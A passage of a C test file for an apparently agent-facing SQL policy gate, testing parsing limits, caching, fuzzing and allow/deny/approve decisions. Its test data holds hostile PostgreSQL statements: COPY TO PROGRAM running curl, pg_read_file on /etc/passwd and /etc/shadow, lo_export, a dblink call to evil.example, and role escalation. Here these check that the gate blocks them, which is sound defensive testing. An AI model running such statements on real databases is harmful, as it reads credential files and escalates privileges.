		{ "in dollar quotes", "SELECT $x$", "(", 5000, "", "", "$x$", true },
		{ "in empty-tag dollar quotes", "SELECT $$ $a$", "(", 5000, "", "", "$$", true },
		{ "in a line comment", "SELECT 1 -- ", "(", 5000, "", "", "\n", true },
		{ "in a nested block comment", "SELECT 1 /* /* */ ", "(", 5000, "", "", " */",
		  true },
		{ "after a literal", "SELECT 'it''s (', ", "(", 1, "1", ")", "", false },
		{ "after a backslash literal", "SELECT 'a\\', ", "(", 1, "1", ")", "", false },
		{ "after a name with $", "SELECT 1 AS a$x$, ", "(", 1, "1", ")", "", false },
		{ "after a parameter", "SELECT $1, ", "(", 1, "1", ")", "", false },
		{ "after a comment", "SELECT /* ( */ 1, ", "(", 1, "1", ")", "", false },
	};
	struct ag_sql_result r;

	for (size_t i = 0; i < N_ELEMS(deep); i++) {
		char *sql = nest(deep[i].head, deep[i].open, AG_SQL_MAX_NESTING + deep[i].n,
				 deep[i].mid, deep[i].close, deep[i].tail);
		int err;

		if (!ASSERT_OK_PTR(sql, "alloc"))
			return;
		err = ag_sql_classify(sql, &r);
		if (deep[i].ok) {
			if (!ASSERT_OK(err, deep[i].name))
				fprintf(stdout, "  %s: %s\n", deep[i].name, r.error);
		} else if (ASSERT_EQ(err, -EINVAL, deep[i].name)) {
			if (!ASSERT_HAS_SUBSTR(r.error, "nesting too deep", deep[i].name))
				fprintf(stdout, "  %s: %s\n", deep[i].name, r.error);
			if (deep[i].pos)
				ASSERT_EQ(r.error_pos, deep[i].pos, "position of the refusal");
			ASSERT_EQ(r.nstmts, 0, "no statements");
		}
		ag_sql_result_free(&r);
		free(sql);
	}

	/* A whole 1 MiB of them: refused by the scan, not by bison's stack. */
	{
		char *sql = nest("SELECT ", "(", (AG_SQL_MAX_LEN - 16) / 2, "1", ")", "");

		if (!ASSERT_OK_PTR(sql, "alloc"))
			return;
		ASSERT_EQ(ag_sql_classify_uncached(sql, &r), -EINVAL, "1 MiB of nesting");
		ASSERT_HAS_SUBSTR(r.error, "nesting too deep", "the scan refused it");
		ag_sql_result_free(&r);
		free(sql);
	}
}

/* Long statements are parsed on a thread of their own; over AG_SQL_MAX_LEN they are refused. */
static void subtest_long_statement(void)
{
	struct ag_sql_result r;
	char *sql;

	sql = repeat("INSERT INTO big VALUES (0, 'x')", ", (-1, 'abc')", 20000, " RETURNING id");
	if (!ASSERT_OK_PTR(sql, "alloc"))
		return;
	if (ASSERT_OK(ag_sql_classify(sql, &r), "bulk insert") && ASSERT_EQ(r.nstmts, 1, "one")) {
		ASSERT_EQ(r.stmts[0].classes, INS | WR, "insert");
		ASSERT_TRUE(same_tables(&r.stmts[0], "big"), "table");
	}
	ag_sql_result_free(&r);
	free(sql);

	sql = repeat("SELECT 1 ", "-", AG_SQL_MAX_LEN, "");
	if (!ASSERT_OK_PTR(sql, "alloc"))
		return;
	ASSERT_EQ(ag_sql_classify(sql, &r), -EINVAL, "over the limit");
	ASSERT_HAS_SUBSTR(r.error, "limit", "says why");
	ag_sql_result_free(&r);
	free(sql);
}

static void subtest_cache(void)
{
	const char *sql = "SELECT name FROM users u JOIN orders o ON o.uid = u.id WHERE o.id = 7";
	struct ag_sql_result a, b;
	uint64_t h0, m0, h1, m1;

	ag_sql_cache_flush();
	ag_sql_cache_stats(&h0, &m0);
	if (!ASSERT_OK(ag_sql_classify(sql, &a), "first"))
		return;
	if (!ASSERT_OK(ag_sql_classify(sql, &b), "second")) {
		ag_sql_result_free(&a);
		return;
	}
	ag_sql_cache_stats(&h1, &m1);
	ASSERT_EQ(m1 - m0, 1, "one miss");
	ASSERT_EQ(h1 - h0, 1, "one hit");
	ASSERT_TRUE(a.stmts != b.stmts, "each caller gets its own copy");
	ASSERT_EQ(a.fingerprint, 0, "no fingerprint unless asked");
	ASSERT_EQ(b.fingerprint, 0, "not from the cache either");
	ASSERT_EQ(b.nstmts, 1, "one statement");
	ASSERT_EQ(b.stmts[0].classes, a.stmts[0].classes, "classes");
	ASSERT_TRUE(same_tables(&b.stmts[0], "users,orders"), "tables of the copy");
	/* A copy is independent: scribbling on one and freeing it leaves the next intact. */
	b.stmts[0].tables[0][0] = 'X';
	ag_sql_result_free(&b);
	if (ASSERT_OK(ag_sql_classify(sql, &b), "third"))
		ASSERT_TRUE(same_tables(&b.stmts[0], "users,orders"), "cache unharmed");
	ag_sql_result_free(&b);
	ag_sql_result_free(&a);

	/* Same hash slot or not, different text is never a hit. */
	if (ASSERT_OK(ag_sql_classify("DELETE FROM users", &a), "other text"))
		ASSERT_EQ(a.stmts[0].classes, DEL | WR, "its own classes");
	ag_sql_result_free(&a);
	ag_sql_cache_flush();
}

/* Only on request (ag_sql_fingerprint): a second parse that a classification does not need. */
static void subtest_fingerprint(void)
{
	const char *sql = "SELECT * FROM users WHERE id = 1";
	uint64_t a, b, c, again;
	struct ag_sql_result r;
	char *l1, *l2;

	ag_sql_cache_flush();
	if (ASSERT_OK(ag_sql_classify(sql, &r), "classify"))
		ASSERT_EQ(r.fingerprint, 0, "not computed by a classification");
	ag_sql_result_free(&r);
	a = ag_sql_fingerprint(sql);
	b = ag_sql_fingerprint("select *  from users where id = 42 -- c");
	c = ag_sql_fingerprint("SELECT * FROM orders WHERE id = 1");
	ASSERT_NEQ(a, 0, "set");
	ASSERT_EQ(a, b, "constants and case do not count");
	ASSERT_NEQ(a, c, "another table does");
	again = ag_sql_fingerprint(sql);
	ASSERT_EQ(again, a, "kept in the cache");
	if (ASSERT_OK(ag_sql_classify(sql, &r), "classify again"))
		ASSERT_EQ(r.fingerprint, 0, "still not in a classification");
	ag_sql_result_free(&r);
	ag_sql_cache_flush();
	ASSERT_EQ(ag_sql_fingerprint(sql), a, "the same computed afresh");

	/* Too long for the cache: computed every time, the same. */
	l1 = repeat("SELECT 1", ", 1", 3000, " FROM users");
	l2 = repeat("SELECT 2", ", 7", 3000, " FROM users");
	if (ASSERT_OK_PTR(l1, "alloc") && ASSERT_OK_PTR(l2, "alloc")) {
		a = ag_sql_fingerprint(l1);
		ASSERT_NEQ(a, 0, "long statement");
		ASSERT_EQ(ag_sql_fingerprint(l2), a, "long statement, other constants");
	}
	free(l1);
	free(l2);

	/* What does not classify has none. */
	ASSERT_EQ(ag_sql_fingerprint("SELECT * FORM users"), 0, "unparseable");
	ASSERT_EQ(ag_sql_fingerprint(NULL), 0, "NULL");
	l1 = repeat("SELECT ", "(", AG_SQL_MAX_NESTING + 1, "1");
	if (ASSERT_OK_PTR(l1, "alloc"))
		ASSERT_EQ(ag_sql_fingerprint(l1), 0, "nesting too deep");
	free(l1);
	ag_sql_cache_flush();
}

static void subtest_class_names(void)
{
	char buf[1024], small[12];

	for (int i = 0; i < AG_SQL_NCLASSES; i++) {
		ASSERT_OK_PTR(ag_sql_command_names[i], "named");
		ASSERT_EQ(ag_sql_class_by_name(ag_sql_command_names[i]), 1ULL << i, "round trip");
	}
	ASSERT_TRUE(!ag_sql_command_names[AG_SQL_NCLASSES], "NULL-terminated");
	ASSERT_EQ(ag_sql_class_by_name("SELECT"), SEL, "any case");
	ASSERT_EQ(ag_sql_class_by_name("selects"), 0, "unknown");
	ASSERT_EQ(ag_sql_class_by_name("write"), WR, "write");
	ASSERT_STREQ(ag_sql_class_names(SEL | DEL | WR, buf, sizeof(buf)), "select,delete,write",
		     "names in bit order");
	ASSERT_STREQ(ag_sql_class_names(0, buf, sizeof(buf)), "", "none");
	ASSERT_STREQ(ag_sql_class_names(SEL | DEL | WR, small, sizeof(small)), "select",
		     "never half a name");
	ag_sql_class_names(~0ULL >> (64 - AG_SQL_NCLASSES), buf, sizeof(buf));
	ASSERT_HAS_SUBSTR(buf, "unlisten,write,empty", "all of them fit");
}

/* ---- fuzz: random and mutated SQL never crashes, never leaks (run once under valgrind) ---- */

/* clang-format off */
static const char *const corpus[] = {
	"WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
	"INSERT INTO a WITH d AS (DELETE FROM b RETURNING *) SELECT * FROM d ON CONFLICT DO NOTHING",
	"SELECT * FROM accounts WHERE id = $1 FOR UPDATE SKIP LOCKED",
	"SELECT * INTO newtable FROM users",
	"COPY users TO PROGRAM 'curl x'",
	"COPY (SELECT * FROM users WHERE a = 'x') TO STDOUT WITH (FORMAT csv)",
	"DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$",
	"CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE BEGIN ATOMIC SELECT a + 1; END",
	"SET ROLE admin; SET SESSION AUTHORIZATION DEFAULT; RESET ROLE",
	"SELECT pg_catalog.pg_read_file('/etc/passwd'), lo_export(1, '/tmp/x')",
	"EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users WHERE id IN (SELECT id FROM old)",
	"PREPARE p(int) AS UPDATE users SET a = a + 1 WHERE id = $1; EXECUTE p(1)",
	"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN DELETE "
	"WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
	"SELECT U&\"\\0075sers\".id, E'\\x41', $q$ ; $q$ FROM U&\"\\0075sers\" /* c */ -- d",
	"WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t LIMIT 5",
	"GRANT ALL ON ALL TABLES IN SCHEMA public TO bob; REVOKE admin FROM bob",
	"CREATE TABLE t (id serial PRIMARY KEY, b jsonb DEFAULT '{}'::jsonb CHECK (b ? 'k'))",
	"SELECT CASE WHEN a THEN b ELSE c END, ARRAY[1, 2][1], x::text COLLATE \"C\" FROM t "
	"JOIN u USING (id) LEFT JOIN LATERAL (SELECT 1) v ON true WINDOW w AS (PARTITION BY a)",
	"ALTER SYSTEM SET work_mem = '1GB'; LOAD 'x'; CREATE EXTENSION dblink",
	"",
};

static const char *const fuzz_tokens[] = {
	"SELECT", "FROM",   "WHERE",  "(",	  ")",	     ",",	";",	   "'",
	"\"",	  "$$",	    "$a$",    "--",	  "/*",	     "*/",	"U&",	   "E'",
	"\\",	  "WITH",   "AS",     "DELETE", "INSERT",    "INTO",	"VALUES",  "UPDATE",
	"SET",	  "COPY",   "TO",     "PROGRAM", "EXPLAIN",  "ANALYZE", "PREPARE", "EXECUTE",
	"DO",	  "FOR",    "1",      "users",	  "public.", "pg_read_file", "::int", "+",
	"[",	  "]",	    "ARRAY",  "CASE",	  "WHEN",    "THEN",	"END",	   "UNION",
	"JOIN",	  "ON",	    "\n",     " ",	  "\xff",    "\xc3\xa9", "$1",	   "*",
	"RETURNING", "TABLE", "RECURSIVE", "LATERAL", "ROLE", "\t", "&", "UESCAPE", "'!'",
};
/* clang-format on */

static uint64_t fuzz_next(struct th_prng *p)
{
	uint64_t v;

	th_prng_fill(p, &v, sizeof(v));
	return v;
}

/* One fuzz input into buf (NUL-terminated, no NUL inside). */
static void fuzz_input(struct th_prng *p, char *buf, size_t cap)
{
	size_t len = 0, kind = fuzz_next(p) % 6;

	if (kind >= 4) { /* 1..3 corpus statements, respaced, commented, case-flipped: valid */
		static const char *const gaps[] = { " ", "\n", "\t ", " /* ; */ ", " -- ;\n" };
		size_t n = 1 + fuzz_next(p) % 3;

		for (size_t i = 0; i < n; i++) {
			const char *c = corpus[fuzz_next(p) % N_ELEMS(corpus)];

			for (; *c && len + 16 < cap; c++) {
				const char *g = gaps[fuzz_next(p) % N_ELEMS(gaps)];

				if (*c == ' ' && !(fuzz_next(p) % 3)) {
					memcpy(buf + len, g, strlen(g));
					len += strlen(g);
				} else if (!(fuzz_next(p) % 7) && *c >= 'a' && *c <= 'z') {
					buf[len++] = *c - 'a' + 'A';
				} else {
					buf[len++] = *c;
				}
			}
			if (len + 2 < cap)
				buf[len++] = ';';
		}
	} else if (kind == 0) { /* random bytes */
		size_t n = fuzz_next(p) % 120;

		for (; len < n && len + 1 < cap; len++)
			buf[len] = 1 + fuzz_next(p) % 255;
	} else if (kind == 1) { /* token soup */
		size_t n = fuzz_next(p) % 40;

		for (size_t i = 0; i < n; i++) {
			const char *t = fuzz_tokens[fuzz_next(p) % N_ELEMS(fuzz_tokens)];
			size_t tl = strlen(t);

			if (len + tl + 2 >= cap)
				break;
			memcpy(buf + len, t, tl);
			len += tl;
			if (fuzz_next(p) % 3)
				buf[len++] = ' ';
		}
	} else { /* a corpus statement, mutated 1..5 times */
		const char *c = corpus[fuzz_next(p) % N_ELEMS(corpus)];
		size_t muts = 1 + fuzz_next(p) % 5;

		len = strlen(c);
		memcpy(buf, c, len);
		for (size_t m = 0; m < muts; m++) {
			size_t at = len ? fuzz_next(p) % len : 0, n;
			const char *t;

			switch (fuzz_next(p) % 5) {
			case 0: /* flip a byte */
				if (len)
					buf[at] = 1 + fuzz_next(p) % 255;
				break;
			case 1: /* insert a token */
				t = fuzz_tokens[fuzz_next(p) % N_ELEMS(fuzz_tokens)];
				n = strlen(t);
				if (len + n + 1 < cap) {
					memmove(buf + at + n, buf + at, len - at);
					memcpy(buf + at, t, n);
					len += n;
				}
				break;
			case 2: /* delete a range */
				n = len - at ? fuzz_next(p) % (len - at) : 0;
				memmove(buf + at, buf + at + n, len - at - n);
				len -= n;
				break;
			case 3: /* duplicate a range */
				n = len - at ? fuzz_next(p) % (len - at) : 0;
				if (len + n + 1 < cap) {
					memmove(buf + at + n, buf + at, len - at);
					len += n;
				}
				break;
			default: /* truncate */
				len = at;
				break;
			}
		}
	}
	buf[len] = '\0';
}

static void subtest_fuzz(void)
{
	static const char policy[] =
		"apiVersion: agentgate/v1\n"
		"agents: [{ name: ci, cgroup: /agents.slice }]\n"
		"targets: [{ name: db, protocol: postgres, address: \"127.0.0.2:5432\" }]\n"
		"rules:\n"
		"  - agent: ci\n"
		"    target: db\n"
		"    sql:\n"
		"      - { name: a, when: { command: [delete, drop], where: absent },\n"
		"          then: deny }\n"
		"      - { name: b, when: { tables: [\"public.*\"] }, then: approve }\n"
		"      - { name: c, when: { command: [select] }, then: allow }\n";
	struct ag_policy *pol;
	struct th_prng prng;
	int parsed = 0, refused = 0, bad = 0;
	char err[512], buf[2048];

	pol = ag_policy_parse(policy, sizeof(policy) - 1, "fuzz.yaml", err, sizeof(err));
	if (!ASSERT_OK_PTR(pol, err))
		return;
	th_prng_init(&prng, 0x5eedf00d);
	for (int i = 0; i < 4000; i++) {
		struct ag_sql_result r;
		struct ag_sql_decision d;
		int ret;

		fuzz_input(&prng, buf, sizeof(buf));
		/* Most uncached (each is parsed); some twice through the cache. */
		ret = i % 8 ? ag_sql_classify_uncached(buf, &r) : ag_sql_classify(buf, &r);
		if (ret == 0) {
			parsed++;
			if (!r.nstmts || r.error)
				bad++;
			for (size_t s = 0; s < r.nstmts; s++) {
				const struct ag_sql_stmt *st = &r.stmts[s];

				if (st->location < 0 || (size_t)st->location > strlen(buf) ||
				    (st->ntables && !st->tables))
					bad++;
				for (size_t t = 0; t < st->ntables; t++)
					if (!st->tables[t] || !st->tables[t][0])
						bad++;
			}
		} else if (ret == -EINVAL) {
			refused++;
			if (!r.error || r.nstmts)
				bad++;
		} else {
			bad++;
		}
		ag_sql_decide(ag_sql_rule_for(pol, "ci", "db"), &r, &d);
		if (ret && d.action != AG_ACT_DENY)
			bad++;
		if (bad) {
			fprintf(stdout, "  input %d broke an invariant: '%s' (%d)\n", i, buf, ret);
			break;
		}
		ag_sql_result_free(&r);
	}
	ASSERT_EQ(bad, 0, "invariants hold");
	ASSERT_GT(parsed, 200, "some parse");
	ASSERT_GT(refused, 200, "some are refused");
	if (test__verbose())
		fprintf(stdout, "  %d parsed, %d refused\n", parsed, refused);
	ag_policy_free(pol);
	ag_sql_cache_flush();
}

void test_sql_classify(void)
{
	for (size_t i = 0; i < N_ELEMS(cases); i++)
		if (test__start_subtest(cases[i].name))
			run_case(&cases[i]);
	if (test__start_subtest("multi_statement"))
		subtest_multi_statement();
	if (test__start_subtest("empty_string"))
		subtest_empty_string();
	if (test__start_subtest("unparseable"))
		subtest_unparseable();
	if (test__start_subtest("deep_nesting"))
		subtest_deep_nesting();
	if (test__start_subtest("nesting_too_deep"))
		subtest_nesting_too_deep();
	if (test__start_subtest("long_statement"))
		subtest_long_statement();
	if (test__start_subtest("cache"))
		subtest_cache();
	if (test__start_subtest("fingerprint"))
		subtest_fingerprint();
	if (test__start_subtest("class_names"))
		subtest_class_names();
	if (test__start_subtest("fuzz"))
		subtest_fuzz();
	ag_sql_cache_flush();
}

/* ---- decisions ---- */

/*
 * deny and approve rules match when ANY class (or table) of a statement is listed; allow and
 * observe rules only when EVERY class is covered (listed, or implied by a listed umbrella) and
 * EVERY table matches. Each hole of the any-class matching is its own case (allow_select_*).
 */
#define DECIDE_POLICY                                                                              \
	"apiVersion: agentgate/v1\n"                                                               \
	"agents: [{ name: ci, cgroup: /agents.slice }, { name: bot, cgroup: /bots.slice }]\n"      \
	"targets:\n"                                                                               \
	"  - { name: db, protocol: postgres, address: \"127.0.0.2:5432\" }\n"                      \
	"  - { name: other, protocol: postgres, address: \"127.0.0.3:5432\" }\n"                   \
	"  - { name: locks, protocol: postgres, address: \"127.0.0.4:5432\" }\n"                   \
	"  - { name: shop, protocol: postgres, address: \"127.0.0.5:5432\" }\n"                    \
	"  - { name: guard, protocol: postgres, address: \"127.0.0.6:5432\" }\n"                   \
	"  - { name: umbrella, protocol: postgres, address: \"127.0.0.7:5432\" }\n"                \
	"rules:\n"                                                                                 \
	"  - agent: ci\n"                                                                          \
	"    target: db\n"                                                                         \
	"    sql:\n"                                                                               \
	"      - { name: no-drop, when: { command: [drop, truncate] }, then: deny }\n"             \
	"      - { name: no-unbounded, when: { command: [update, delete], where: absent }, "       \
	"then: deny }\n"                                                                           \
	"      - { name: secrets, when: { tables: [\"public.secrets\", \"vault.*\"] }, "           \
	"then: deny }\n"                                                                           \
	"      - { name: bounded-writes, when: { command: [update, delete], where: present, "      \
	"tables: [orders] }, then: approve }\n"                                                    \
	"      - { name: ddl, when: { command: [ddl] }, then: approve }\n"                         \
	"      - { name: reads, when: { command: [SELECT] }, then: allow }\n"                      \
	"      - { name: watch-copy, when: { command: [copy, select] }, then: observe }\n"         \
	"  - agent: ci\n"                                                                          \
	"    target: locks\n"                                                                      \
	"    sql: [{ name: select-lock, when: { command: [select, lock] }, then: allow }]\n"       \
	"  - agent: ci\n"                                                                          \
	"    target: shop\n"                                                                       \
	"    sql:\n"                                                                               \
	"      - { name: shop-reads, when: { command: [select], tables: [\"shop.*\", orders] }, "  \
	"then: allow }\n"                                                                          \
	"  - agent: ci\n"                                                                          \
	"    target: guard\n"                                                                      \
	"    sql:\n"                                                                               \
	"      - { name: no-delete, when: { command: [delete] }, then: deny }\n"                   \
	"      - { name: review-files, when: { command: [file] }, then: approve }\n"               \
	"      - { name: reads, when: { command: [select] }, then: allow }\n"                      \
	"  - agent: ci\n"                                                                          \
	"    target: umbrella\n"                                                                   \
	"    sql:\n"                                                                               \
	"      - { name: schema, when: { command: [ddl] }, then: allow }\n"                        \
	"      - { name: tx, when: { command: [transaction] }, then: allow }\n"                    \
	"      - { name: writes, when: { command: [insert] }, then: allow }\n"                     \
	"      - { name: settings, when: { command: [set] }, then: observe }\n"                    \
	"      - { name: maint, when: { command: [utility] }, then: allow }\n"                     \
	"  - agent: \"*\"\n"                                                                       \
	"    target: \"*\"\n"                                                                      \
	"    sql:\n"                                                                               \
	"      - { name: anything, then: allow }\n"

struct decide_case {
	const char *name;
	const char *agent, *target;
	const char *sql;
	enum ag_action action;
	const char *rule;
	size_t stmt;
	const char *why; /* a substring, or NULL */
};

/* clang-format off */
static const struct decide_case decide_cases[] = {
	{ "first_match_wins", "ci", "db", "DROP TABLE orders", AG_ACT_DENY, "no-drop", 0,
	  "command drop in [drop, truncate]" },
	{ "first_match_wins_order", "ci", "db", "DELETE FROM secrets", AG_ACT_DENY, "no-unbounded",
	  0, "where absent" },
	{ "default_deny", "ci", "db", "INSERT INTO orders VALUES (1)", AG_ACT_DENY, "default", 0,
	  "no sql rule matches insert,write" },
	{ "select_allowed", "ci", "db", "SELECT * FROM orders", AG_ACT_ALLOW, "reads", 0,
	  "command select covered by [select]" },
	{ "command_case_insensitive", "ci", "db", "select 1", AG_ACT_ALLOW, "reads", 0, NULL },
	{ "most_restrictive_statement", "ci", "db",
	  "SELECT 1; ALTER TABLE t ADD c int; TRUNCATE t; COPY t TO STDOUT", AG_ACT_DENY, "no-drop",
	  2, NULL },
	/* watch-copy is [copy, select] after reads: COPY TO STDOUT is copy,select */
	{ "approve_over_observe", "ci", "db", "COPY t TO STDOUT; SELECT 1; CREATE TABLE x (a int)",
	  AG_ACT_APPROVE, "ddl", 2, NULL },
	{ "observe_over_allow", "ci", "db", "SELECT 1; COPY t TO STDOUT", AG_ACT_OBSERVE,
	  "watch-copy", 1, "command select,copy covered by [copy, select]" },
	{ "first_of_equals_decides", "ci", "db", "SELECT 1; SELECT 2", AG_ACT_ALLOW, "reads", 0,
	  NULL },
	{ "tables_glob_qualified", "ci", "db", "SELECT * FROM public.secrets", AG_ACT_DENY,
	  "secrets", 0, "table public.secrets matches public.secrets" },
	{ "tables_glob_unqualified", "ci", "db", "SELECT * FROM secrets", AG_ACT_DENY, "secrets", 0,
	  "table secrets matches public.secrets" },
	{ "tables_glob_schema_star", "ci", "db", "SELECT * FROM vault.keys", AG_ACT_DENY, "secrets",
	  0, NULL },
	{ "tables_glob_no_match", "ci", "db", "SELECT * FROM other.secrets", AG_ACT_ALLOW, "reads",
	  0, NULL },
	{ "tables_glob_in_subquery", "ci", "db",
	  "SELECT 1 WHERE EXISTS (SELECT 1 FROM vault.keys)", AG_ACT_DENY, "secrets", 0, NULL },
	{ "where_present_bounded", "ci", "db", "UPDATE orders SET a = 1 WHERE id = 3",
	  AG_ACT_APPROVE, "bounded-writes", 0, "where present" },
	{ "where_present_other_table", "ci", "db", "UPDATE users SET a = 1 WHERE id = 3",
	  AG_ACT_DENY, "default", 0, NULL },
	{ "where_absent_in_cte", "ci", "db",
	  "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", AG_ACT_DENY,
	  "no-unbounded", 0, NULL },
	{ "qualified_matches_unqualified_glob", "ci", "db",
	  "UPDATE public.orders SET a = 1 WHERE id = 3", AG_ACT_APPROVE, "bounded-writes", 0, NULL },
	{ "wildcard_agent", "bot", "db", "DROP TABLE orders", AG_ACT_ALLOW, "anything", 0,
	  "no conditions" },
	{ "wildcard_target", "ci", "other", "DROP TABLE orders", AG_ACT_ALLOW, "anything", 0, NULL },
	{ "empty_query", "ci", "db", "-- nothing", AG_ACT_ALLOW, "default", 0, "empty" },
	{ "unclassified_execute", "ci", "db", "EXECUTE p", AG_ACT_DENY, "default", 0, "execute" },

	/* allow [select] lets nothing through that also does something else */
	{ "allow_select_cte_delete_denied", "ci", "db",
	  "WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d", AG_ACT_DENY,
	  "default", 0, "reads does not cover delete,write" },
	{ "allow_select_pg_read_file_denied", "ci", "db", "SELECT pg_read_file('/etc/passwd')",
	  AG_ACT_DENY, "default", 0, "reads does not cover file" },
	{ "allow_select_lo_export_denied", "ci", "db", "SELECT lo_export(16384, '/tmp/dump')",
	  AG_ACT_DENY, "default", 0, "reads does not cover file,write" },
	{ "allow_select_dblink_denied", "ci", "db",
	  "SELECT * FROM dblink('host=evil.example', 'DELETE FROM t') AS t(a int)", AG_ACT_DENY,
	  "default", 0, "reads does not cover system" },
	{ "allow_select_set_config_role_denied", "ci", "db",
	  "SELECT set_config('role', 'postgres', false)", AG_ACT_DENY, "default", 0,
	  "reads does not cover role,set" },
	{ "allow_select_for_update_needs_lock", "ci", "db",
	  "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", AG_ACT_DENY, "default", 0,
	  "reads does not cover lock" },
	{ "allow_select_lock_listed", "ci", "locks",
	  "SELECT * FROM accounts WHERE id = 1 FOR UPDATE", AG_ACT_ALLOW, "select-lock", 0,
	  "command select,lock covered by [select, lock]" },
	{ "allow_select_nextval_needs_write", "ci", "db", "SELECT nextval('orders_id_seq')",
	  AG_ACT_DENY, "default", 0, "reads does not cover write" },
	{ "allow_select_in_multi_statement", "ci", "db", "SELECT 1; SELECT pg_read_file('x')",
	  AG_ACT_DENY, "default", 1, NULL },
	{ "observe_every_class_covered", "ci", "db",
	  "COPY (DELETE FROM users WHERE id = 1 RETURNING *) TO STDOUT", AG_ACT_DENY, "default", 0,
	  "watch-copy does not cover delete,write" },

	/* allow with tables: every table must match */
	{ "allow_tables_all_must_match", "ci", "shop", "SELECT * FROM orders JOIN users ON true",
	  AG_ACT_DENY, "default", 0, "shop-reads does not cover table users" },
	{ "allow_tables_subquery_must_match", "ci", "shop",
	  "SELECT * FROM shop.items WHERE id IN (SELECT item FROM vault.keys)", AG_ACT_DENY,
	  "default", 0, "does not cover table vault.keys" },
	{ "allow_tables_all_match", "ci", "shop",
	  "SELECT * FROM orders o JOIN shop.items i ON true WHERE i.id IN "
	  "(SELECT id FROM public.orders)", AG_ACT_ALLOW, "shop-reads", 0,
	  "every table in [shop.*, orders]" },
	{ "allow_tables_none_covered", "ci", "shop", "SELECT 1", AG_ACT_ALLOW, "shop-reads", 0,
	  "no table outside" },

	/* deny and approve: any class, any table */
	{ "deny_any_class_matches", "ci", "guard",
	  "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", AG_ACT_DENY,
	  "no-delete", 0, "command delete in [delete]" },
	{ "approve_any_class_matches", "ci", "guard", "SELECT pg_read_file('/etc/hosts')",
	  AG_ACT_APPROVE, "review-files", 0, "command file in [file]" },
	{ "deny_any_table_matches", "ci", "db", "SELECT * FROM orders JOIN vault.keys ON true",
	  AG_ACT_DENY, "secrets", 0, "table vault.keys matches vault.*" },

	/* umbrellas */
	{ "allow_ddl_umbrella_covers_create", "ci", "umbrella", "CREATE TABLE t (a int)",
	  AG_ACT_ALLOW, "schema", 0, "command ddl,create,write covered by [ddl]" },
	{ "allow_ddl_umbrella_covers_alter_drop_comment", "ci", "umbrella",
	  "ALTER TABLE t ADD b int; DROP INDEX i; COMMENT ON TABLE t IS 'x'", AG_ACT_ALLOW,
	  "schema", 0, NULL },
	{ "allow_ddl_umbrella_not_function", "ci", "umbrella",
	  "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", AG_ACT_DENY, "default", 0,
	  "schema does not cover function" },
	{ "allow_ddl_umbrella_not_system", "ci", "umbrella", "CREATE EXTENSION dblink",
	  AG_ACT_DENY, "default", 0, "schema does not cover system" },
	{ "allow_ddl_umbrella_not_role", "ci", "umbrella", "CREATE ROLE x SUPERUSER", AG_ACT_DENY,
	  "default", 0, "schema does not cover role" },
	{ "allow_transaction_umbrella", "ci", "umbrella",
	  "BEGIN; SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a; COMMIT", AG_ACT_ALLOW, "tx", 0,
	  "covered by [transaction]" },
	{ "allow_insert_covers_write", "ci", "umbrella", "INSERT INTO t VALUES (1)", AG_ACT_ALLOW,
	  "writes", 0, "command insert,write covered by [insert]" },
	{ "allow_insert_not_file", "ci", "umbrella",
	  "INSERT INTO t SELECT pg_read_file('/etc/shadow')", AG_ACT_DENY, "default", 0,
	  "writes does not cover file" },
	{ "allow_insert_not_update", "ci", "umbrella",
	  "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2", AG_ACT_DENY, "default", 0,
	  "writes does not cover update" },
	{ "allow_set_umbrella_covers_show", "ci", "umbrella", "SHOW work_mem; RESET work_mem",
	  AG_ACT_OBSERVE, "settings", 0, NULL },
	{ "allow_set_umbrella_not_role", "ci", "umbrella", "SET ROLE admin", AG_ACT_DENY,
	  "default", 0, "settings does not cover role" },
	{ "allow_utility_umbrella", "ci", "umbrella", "VACUUM t; CHECKPOINT; LISTEN jobs",
	  AG_ACT_ALLOW, "maint", 0, NULL },
	{ "allow_utility_umbrella_not_notify", "ci", "umbrella", "NOTIFY jobs", AG_ACT_DENY,
	  "default", 0, NULL },
};
/* clang-format on */

/* A statement of no class: no command: list covers it (only a rule without one matches). */
static void subtest_unclassified(const struct ag_policy *pol)
{
	struct ag_sql_stmt s = { 0 };
	struct ag_sql_decision d;

	ag_sql_decide_stmt(ag_sql_rule_for(pol, "ci", "db"), &s, &d);
	ASSERT_EQ(d.action, AG_ACT_DENY, "denied");
	ASSERT_STREQ(d.rule, "default", "by default");
	ASSERT_HAS_SUBSTR(d.why, "unclassified", "why");
	ag_sql_decide_stmt(ag_sql_rule_for(pol, "ci", "umbrella"), &s, &d);
	ASSERT_EQ(d.action, AG_ACT_DENY, "no umbrella covers it");
	ag_sql_decide_stmt(ag_sql_rule_for(pol, "bot", "db"), &s, &d);
	ASSERT_EQ(d.action, AG_ACT_ALLOW, "a rule without conditions does");
}

static void subtest_no_rule(void)
{
	struct ag_sql_result r;
	struct ag_sql_decision d;

	if (!ASSERT_OK(ag_sql_classify("SELECT 1", &r), "classify"))
		return;
	ag_sql_decide(NULL, &r, &d);
	ASSERT_EQ(d.action, AG_ACT_DENY, "no rule denies");
	ASSERT_STREQ(d.rule, "default", "rule");
	ASSERT_HAS_SUBSTR(d.why, "no rule", "why");
	ag_sql_result_free(&r);

	ASSERT_EQ(ag_sql_classify("SELEC 1", &r), -EINVAL, "bad");
	ag_sql_decide(NULL, &r, &d);
	ASSERT_EQ(d.action, AG_ACT_DENY, "an error denies");
	ag_sql_result_free(&r);
}

static void subtest_policy_command_names(void)
{
	char yaml[4096], err[1024], *p = yaml;
	struct ag_policy *pol;

	/* Every class name is a valid command: value, and nothing else is. */
	p += sprintf(p, "apiVersion: agentgate/v1\n"
			"agents: [{ name: ci, cgroup: /a }]\n"
